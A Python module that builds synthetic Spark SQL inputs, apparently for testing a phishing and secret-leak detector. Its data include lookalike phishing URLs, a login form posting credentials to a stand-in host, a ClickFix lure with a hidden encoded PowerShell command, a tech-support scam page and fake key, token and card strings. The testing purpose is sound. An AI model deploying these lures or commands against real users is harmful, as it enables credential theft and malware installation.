"""Inputs that queries derive from the driver's tables, as SQL that Spark and an oracle both run.

The tables hold hardly any hostile URL, form or secret, so rows are dressed up by their ids: every kind of
input grows with its table. Secret-like strings are made up from digests.
"""

from __future__ import annotations

import hashlib
import string

from pyspark.sql import DataFrame, SparkSession

_HOSTILE = (
    "https://netf1ix.com/watch?id=",
    "https://netflix.com.billing-desk.xyz/pay?id=",
    "https://accounts.google.com.portal-eu.top/?id=",
    "https://tinyurl.com/q",
    "http://10.20.30.40/panel?id=",
    "https://guest:room@shop.example.org/?id=",
    "no address ",
    "https://harbour-cafe.net/leave?url=https://far-away.example/start",
    "https://harbour-cafe.net/go?redirect=https%3A%2F%2Ffar-away.example%2Fx",
    "https://xn--ntflix-3of.com/in?id=",
    "https://netflix.members-desk.net/validate-card?id=",
    "https://google.co/deals?id=",
    "https://www.github.com/explore?id=",
    "https://a-b-c-d-e.sign-in.desk.members-room.rather-long-host-name.co.uk/update-billing/x?id=",
    "https://gооgle.com/?id=",
    "https://login.pay-desk.tk/recover-account?id=",
)
_CASES = " ".join(f"WHEN {8 + i} THEN '{u}' || page_id" for i, u in enumerate(_HOSTILE))
#: url_id, url, tab_id, age_days.
URLS = f"""SELECT page_id AS url_id, CASE page_id % 24 {_CASES} ELSE url END AS url, page_id % 50 AS tab_id,
  CASE WHEN page_id % 7 = 0 THEN NULL ELSE CAST((page_id * 37) % 500 AS DOUBLE) END AS age_days FROM pages"""

_PWD = "<input type=\"password\" name=\"p\">"
_MAIL = "<input type=\"email\" name=\"email\">"
_OTP = "<input name=\"otp\" maxlength=\"6\">"
_FORMS = (
    f"<h1>Sign in to Netflix</h1><form action=\"https://gather.far-away.example/p\" method=\"post\">{_MAIL}{_PWD}</form>",
    f"<h2>Member login</h2><form action=\"/session\" method=\"post\">{_MAIL}{_PWD}</form>",
    f"<p>Enter the code we sent</p><form action=\"/otp\" method=\"post\">{_OTP}</form>",
    f"<form action=\"javascript:go()\">{_MAIL}{_PWD}</form><p>verify your account within 24 hours or lose it</p>",
    f"<form action=\"/login\" method=\"get\">{_MAIL}{_PWD}<input type=\"hidden\" name=\"a\"><input type=\"hidden\" name=\"b\"><input type=\"hidden\" name=\"c\"><input type=\"hidden\" name=\"d\"></form>",
    "<button>Sign in with Google</button><button>Sign in with Microsoft</button><link rel=\"icon\" href=\"https://www.netflix.com/icon.ico\"><img src=\"https://www.netflix.com/mark.png\">" + f"<form action=\"/in\">{_MAIL}{_PWD}</form>",
    "<h1>Verify you are human</h1><p>Press Windows + R, paste the command and press Enter</p><code>powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwA</code>",
    "<p>Your computer has been infected. Security alert! Call Microsoft support now: +1 (800) 555-0199. Do not close this window</p><a href=\"tel:+18005550199\">call</a>",
    "<script src=\"https://a.cdn1.example/1.js\"></script><script src=\"https://b.cdn2.example/2.js\"></script><script src=\"https://cdn.jsdelivr.net/3.js\"></script><script src=\"https://c.cdn3.example/4.js\"></script><link rel=\"stylesheet\" href=\"https://d.cdn4.example/5.css\"><a href=\"https://files.far-away.example/tool.exe\">get</a><a href=\"/tool.msi\">tool</a>",
    "<p>continue to your organization</p>" + f"<form action=\"/next\">{_MAIL}</form>",
    "<p>phishing analysis of a phishing kit: tutorial, documentation, oauth2, pkce, threat intelligence</p>",
)
_FORM_CASES = " ".join(f"WHEN {i + 1} THEN '{f}'" for i, f in enumerate(_FORMS))
#: page_id, url, tab_id, age_days, in_frame, hidden_overlay, csp_weakened, html with a form or lure for eleven of twelve pages.
PAGES = f"""SELECT u.url_id AS page_id, u.url, u.tab_id, u.age_days, p.page_id % 13 = 0 AS in_frame, p.page_id % 29 = 0 AS hidden_overlay, p.page_id % 31 = 0 AS csp_weakened, replace(p.html, '</body>', (CASE p.page_id % 12 {_FORM_CASES} ELSE '' END) || '</body>') AS html
  FROM ({URLS}) u JOIN pages p ON p.page_id = u.url_id"""

def _sample(seed: str, n: int, letters: str) -> str:
    """Made-up characters that look random, the same in every run."""
    digest = b"".join(hashlib.sha256(f"{seed}{i}".encode()).digest() for i in range(n // 32 + 1))
    return "".join(letters[x % len(letters)] for x in digest[:n])


_UPPER, _ANY = string.ascii_uppercase + string.digits, string.ascii_letters + string.digits
SAMPLE_KEY, SAMPLE_TOKEN = "AKIA" + _sample("key", 16, _UPPER), "ghp_" + _sample("token", 36, _ANY)
_SECRETS = (
    SAMPLE_KEY,
    SAMPLE_TOKEN,
    "card 5500 0000 0000 0004 now",
    "iban DE89370400440532013000 ok",
    "ssn 219-09-9999 here",
    "pan " + _sample("pan", 5, string.ascii_uppercase) + _sample("pan", 4, string.digits) + "K end",
    ".".join(("eyJ" + _sample("head", 9, _ANY), "eyJ" + _sample("body", 9, _ANY), _sample("mark", 12, _ANY))),
    "test card 4242 4242 4242 4242",
    "recovery code " + "-".join(_sample(f"code{i}", 4, _UPPER) for i in range(3)),
    "mail me at someone@example.org or +1 212-555-0147",
    "seed " + " ".join(_sample(f"word{i}", 3 + i % 5, string.ascii_lowercase) for i in range(12)) + ".",
)
_SECRET_CASES = " ".join(f"WHEN {i} THEN ' {s}'" for i, s in enumerate(_SECRETS))
#: doc_id, text with something secret-like at the end of eleven of sixteen texts.
TEXTS = f"SELECT doc_id, coalesce(text, '') || (CASE doc_id % 16 {_SECRET_CASES} ELSE '' END) AS text, source FROM documents"

#: feed_id, feed_ord, line_no, line.
FEED = """SELECT CASE page_id % 3 WHEN 0 THEN 'urlhaus' WHEN 1 THEN 'phishing-army' ELSE 'openphish' END AS feed_id, page_id % 3 AS feed_ord, page_id AS line_no,
  CASE page_id % 8 WHEN 0 THEN '0.0.0.0 bad' || (page_id % 97) || '.example' WHEN 1 THEN 'https://phish' || (page_id % 53) || '.tld/login?x=1' WHEN 2 THEN 'www.Kit' || (page_id % 31) || '.tk.'
  WHEN 3 THEN '# comment' WHEN 4 THEN 'not a host' WHEN 5 THEN 'evil-kit.tk' WHEN 6 THEN 'login.paypal.com' ELSE '||track' || (page_id % 41) || '.example.com^' END AS line FROM pages"""

#: flow_id, seq, ts, kind, origin, post_origin, in_iframe.
STEPS = """SELECT user_id AS flow_id, event_id AS seq, ts,
  CASE WHEN event_id % 7 = 3 THEN 'oauth' WHEN event_type = 'view' THEN 'entry' WHEN event_type = 'click' THEN 'redirect' WHEN event_type = 'signup' THEN 'credential' WHEN event_type = 'purchase' THEN 'mfa' ELSE 'token' END AS kind,
  'https://o' || (event_id % 6) || '.example' AS origin, CASE WHEN event_id % 4 = 0 THEN 'https://p' || (event_id % 5) || '.example' ELSE NULL END AS post_origin, event_id % 9 = 0 AS in_iframe FROM events"""

#: tab_id, seq, ts, kind, url.
NAVIGATION = """SELECT user_id AS tab_id, event_id AS seq, ts, CASE WHEN event_type = 'view' THEN 'navigate' ELSE 'redirect' END AS kind,
  'https://s' || (event_id % 7) || '.site' || (event_id % 5) || '.com/' || (event_id % 3) AS url FROM events"""

#: profile_id, at, kind, host, score, status.
ACTIVITY = """SELECT user_id AS profile_id, ts AS at, event_type AS kind, 'h' || (event_id % 20) || '.example' AS host, event_id % 101 AS score,
  CASE WHEN event_id % 101 >= 71 THEN 'safe' WHEN event_id % 101 >= 41 THEN 'suspicious' ELSE 'dangerous' END AS status FROM events"""

# What is known of URLs beside themselves: an outside service's findings, roots that were trusted before, roots that are
# allowed by hand. (url, ext_malicious, ext_engines), (root of host, trust_count), (root of host)
EXTERNAL = f"""SELECT url, max(CASE WHEN url_id % 60 = 0 THEN 1 ELSE 0 END) = 1 AS ext_malicious, max(CASE WHEN url_id % 60 = 30 THEN url_id % 7 ELSE 0 END) AS ext_engines
  FROM ({URLS}) u WHERE url_id % 30 = 0 GROUP BY url"""
TRUSTED_HOSTS = f"SELECT url, url_id FROM ({URLS}) u WHERE url_id % 24 IN (1, 18, 19, 22)"
ALLOWED_HOSTS = f"SELECT url, url_id FROM ({URLS}) u WHERE url_id % 24 IN (10, 17, 20)"

_TABLES = {"pages", "documents", "events", "labels", "conversations"}


def derived(spark: SparkSession, sf_dir: str, text: str) -> DataFrame:
    """Runs one of the queries above over the driver's tables."""
    for name in _TABLES:
        if f"FROM {name}" in text or f"JOIN {name}" in text:
            text = text.replace(f"FROM {name}", f"FROM {{{name}}}").replace(f"JOIN {name} ", f"JOIN {{{name}}} ")
    frames = {name: spark.read.parquet(f"{sf_dir}/{name}.parquet") for name in _TABLES if f"{{{name}}}" in text}
    return spark.sql(text, **frames)
